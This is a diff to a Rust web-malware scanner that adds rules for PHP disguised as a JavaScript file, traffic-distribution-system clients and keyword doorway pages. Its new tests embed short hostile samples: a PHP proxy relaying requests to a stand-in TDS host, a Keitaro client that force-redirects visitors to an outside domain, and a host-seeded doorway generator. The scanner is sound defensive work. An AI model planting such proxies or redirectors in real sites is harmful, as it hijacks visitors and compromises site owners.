@@ -841,7 +841,19 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         });
         let mailbox =
             shapes::kit_mailbox(text).map(|at| taint::Sink { why: Why::KitMailbox, danger: Danger::Medium, at });
-        claim.into_iter().chain(spam).chain(step).chain(drained).chain(mailbox)
+        // (Or one handing its visitors to a traffic distribution system.)
+        let tds = spam::traffic_client(text).map(|at| taint::Sink {
+            why: Why::TrafficRedirector,
+            danger: Danger::Medium,
+            at,
+        });
+        // (Or one making up pages that stay the same for each address.)
+        let seeded = spam::seeded_by_address(text).map(|at| taint::Sink {
+            why: Why::KeywordDoorway,
+            danger: Danger::Medium,
+            at,
+        });
+        claim.into_iter().chain(spam).chain(step).chain(drained).chain(mailbox).chain(tds).chain(seeded)
     };
     if is_ssi(name) {
         // (A `.shtml` page is a page too: a defacer's mirror is dropped as one.)
@@ -868,6 +880,19 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         // An `.htaccess` kept under a script's name (a lockdown waiting to be copied back).
         let hits = settings_hits(".htaccess", text, own_domains);
         return (hits, false);
+    }
+    if is_js(name) && text.trim_ascii_start().get(..5).is_some_and(|h| h.eq_ignore_ascii_case(b"<?php")) {
+        // PHP under a script's name, run by a handler beside it (fresh156's Parrot TDS proxy
+        // `hidpi.js` in CKEditor's tree, with `AddHandler … .js`): read as the PHP it is.
+        let (mut hits, _) = content(&format!("{name}.php"), text, own_domains, depth);
+        let at = text.iter().position(|c| !c.is_ascii_whitespace()).unwrap_or(0);
+        hits.push(Hit {
+            why: Why::PhpUnderDataName,
+            danger: Danger::High,
+            line: Some(line_of(text, at)),
+            evidence: excerpt(text, at),
+        });
+        return (rank(hits), false);
     }
     // Under a PHP name too (the file prints its text); what else it holds is read as a page's.
     if runs_as_php(name) && conf::is_server_settings(text) {
@@ -2204,6 +2229,25 @@ mod tests {
         }
         // A robots file's comments end in its rules, not a program.
         assert!(!worth_reading("robots.txt", b"# robots.txt\n# for all\nUser-agent: *\n"));
+    }
+
+    #[test]
+    fn php_under_a_scripts_name_and_a_traffic_system_client_are_found() {
+        // fresh156's Parrot TDS proxy named `hidpi.js`; a Keitaro block in front of a home page.
+        let proxy = "<?php\n/* APPLICATION ENVIRONMENT */\n$u = 'https://tds.example.net/' . $_SERVER['REQUEST_URI']; echo file_get_contents($u);";
+        assert!(
+            whys("plugins/hidpi/hidpi.js", proxy).contains(&Why::PhpUnderDataName),
+            "{:?}",
+            whys("hidpi.js", proxy)
+        );
+        assert!(whys("js/app.js", "function a() { return '<?php'; }").is_empty());
+        let keitaro = "<?php require_once dirname(__FILE__) . '/kclient.php';\n$client = new KClient('https://source-channel.space/', 'RW3sN6SdTsKd8w7b');\n\
+                       $client->sendAllParams(); $client->forceRedirectOffer(); ?>\n<html><body>Bills</body></html>";
+        assert_eq!(whys("index.php", keitaro), [Why::TrafficRedirector]);
+        // fresh156's book doorway: its random numbers seeded with the host's name.
+        let doorway = "<?php srand(crc32($_SERVER['HTTP_HOST'])); require_once $_SERVER['DOCUMENT_ROOT'] . '/data/conf.php';\n$words = file('data/keys.txt'); echo $words[rand(0, count($words) - 1)];";
+        assert_eq!(whys("index.php", doorway), [Why::KeywordDoorway]);
+        assert!(whys("index.php", "<?php mt_srand(crc32(microtime())); echo rand();").is_empty());
     }
 
     #[test]
